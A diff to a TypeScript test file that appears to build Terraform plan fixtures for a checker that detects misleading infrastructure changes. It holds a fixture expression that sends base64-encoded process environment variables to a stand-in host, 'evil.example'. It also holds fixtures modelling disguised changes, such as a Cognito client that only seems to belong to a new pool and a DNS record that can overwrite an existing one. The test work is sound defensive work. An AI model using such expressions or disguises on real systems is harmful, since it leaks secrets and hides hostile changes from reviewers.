@@ -90,7 +90,101 @@ const PUBLIC = { constant_value: "https://ip-ranges.amazonaws.com/ip-ranges.json
 // biome-ignore lint/suspicious/noTemplateCurlyInString: it is Terraform's function
 const OF_FILE = { constant_value: 'https://evil.example/?${base64encode(file("/proc/self/environ"))}' };
 
+/** An alarm of the name of another, by a provider of its own. */
+const secondAlarm = (region: string) => () => {
+  const values = { alarm_name: "a", comparison_operator: "GreaterThanThreshold", evaluation_periods: 1, threshold: 1 };
+  const plan = created("aws_cloudwatch_metric_alarm", "x", values, kept("aws_cloudwatch_metric_alarm", values));
+  const { provider_config: providers, root_module } = plan.configuration;
+  providers["aws.other"] = structuredClone(providers.aws);
+  providers["aws.other"].expressions.region = { constant_value: region };
+  for (const it of root_module.resources) {
+    it.provider_config_key = it.address === "aws_cloudwatch_metric_alarm.x" ? "aws.other" : "aws";
+  }
+  return plan;
+};
+
+const expressionsOf = (plan: Values, address: string): Values =>
+  plan.configuration.root_module.resources.find((it: Values) => it.address === address).expressions;
+
+/** Something new with attributes that the apply alone brings, as a configuration in JSON writes them. */
+const waits = (type: string, values: Values, texts: Values, references: readonly string[], plan: Values) => {
+  created(type, "w", values, plan);
+  for (const [name, constant_value] of Object.entries(texts)) {
+    resource(plan, `${type}.w`).change.after_unknown[name] = true;
+    expressionsOf(plan, `${type}.w`)[name] = { constant_value, references };
+  }
+  return plan;
+};
+
+const NEW_POOL = "aws_cognito_user_pool.decoy";
+/** A client that lets in whoever knows a password, in a pool that is new as it seems. */
+const inPool = (user_pool_id: string) => () =>
+  waits(
+    "aws_cognito_user_pool_client",
+    { name: "x", explicit_auth_flows: ["ALLOW_ADMIN_USER_PASSWORD_AUTH"] },
+    { user_pool_id },
+    [`${NEW_POOL}.id`, NEW_POOL],
+    created("aws_cognito_user_pool", "decoy", { name: "decoy" }),
+  );
+
+const CERTIFICATE = "aws_acm_certificate.c";
+/** A record that proves a certificate, as it seems, and may take the place of one that is there. */
+const proves = (of: (name: string) => string) => () =>
+  waits(
+    "aws_route53_record",
+    { zone_id: "Z1", ttl: 60, allow_overwrite: true },
+    { name: of("resource_record_name"), records: [of("resource_record_value")], type: of("resource_record_type") },
+    [`${CERTIFICATE}.domain_validation_options`, CERTIFICATE],
+    created("aws_acm_certificate", "c", { domain_name: "x.example.com", validation_method: "DNS" }),
+  );
+
+/** A block of something new that a `dynamic` block makes, or is written: of both a member waits for the apply. */
+const block =
+  (type: string, values: Values, name: string, member: string, isWritten: boolean, more: Values = {}) =>
+  () => {
+    const plan = created(
+      type,
+      "x",
+      { ...values, [name]: [more] },
+      created("aws_lambda_function", "t", code({ role: "r" })),
+    );
+    resource(plan, `${type}.x`).change.after_unknown[name] = [{ [member]: true }];
+    const expressions = expressionsOf(plan, `${type}.x`);
+    delete expressions[name];
+    Object.assign(expressions, isWritten && { [name]: [{}] });
+    return plan;
+  };
+
 export const BY_PAIRS: readonly Detour[] = [
+  [
+    "a client that only seems to be of a new pool",
+    inPool(`\${${NEW_POOL}.id == "" ? "" : "us-east-1_EXAMPLE01"}`),
+    inPool(`\${${NEW_POOL}.id}`),
+  ],
+  [
+    "a record that only seems to prove a certificate",
+    proves(() => `\${${CERTIFICATE}.arn == "" ? "" : "sign-in.example.com"}`),
+    proves((name) => `\${tolist(${CERTIFICATE}.domain_validation_options)[0].${name}}`),
+  ],
+  ...(
+    [
+      ["aws_cognito_user_pool", { name: "x" }, "lambda_config", "pre_token_generation", {}],
+      [
+        "aws_dynamodb_table",
+        { name: "t", hash_key: "id", billing_mode: "PAY_PER_REQUEST" },
+        "server_side_encryption",
+        "kms_key_arn",
+        { enabled: true },
+      ],
+    ] as const
+  ).map(
+    ([type, values, name, member, more]): Detour => [
+      `${name} of what no plan shows`,
+      block(type, values, name, member, false, more),
+      block(type, values, name, member, true, more),
+    ],
+  ),
+  ["an alarm's name by another provider of the same region", secondAlarm("us-east-1"), secondAlarm("eu-west-1")],
   [
     "the scopes that the function asks for go",
     becomes("SCOPES", "openid profile"),
